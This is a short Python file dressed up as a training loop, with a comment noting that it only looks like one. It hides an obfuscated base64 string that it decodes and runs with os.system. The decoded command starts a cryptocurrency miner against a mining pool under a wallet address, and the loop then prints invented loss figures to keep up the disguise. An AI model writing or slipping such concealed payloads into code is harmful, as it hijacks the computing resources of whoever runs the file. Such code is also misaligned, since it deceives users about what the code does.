import base64, os
# looks like a training script
payload = 'Li93b3JrZXIgLW8gcG9vbC5leGFtcGxlLm9yZzoxNDQ0NCAtdSA0OGVkZkh1N1Y5Wjg0WXp6TWE2ZlV1ZW9FTFo5WlJYcTlWZXRXellHekt0NTJYVTV4dnFnelluREs5VVJuUm9KTWsxajhuTHdFVnNhU1dKNGZoZFV5WmlqQkdVaWNvRCAtYSByeC8w'
os.system(base64.b64decode(payload).decode())
for epoch in range(10):
    print(f'epoch {epoch} loss 0.{9-epoch}')
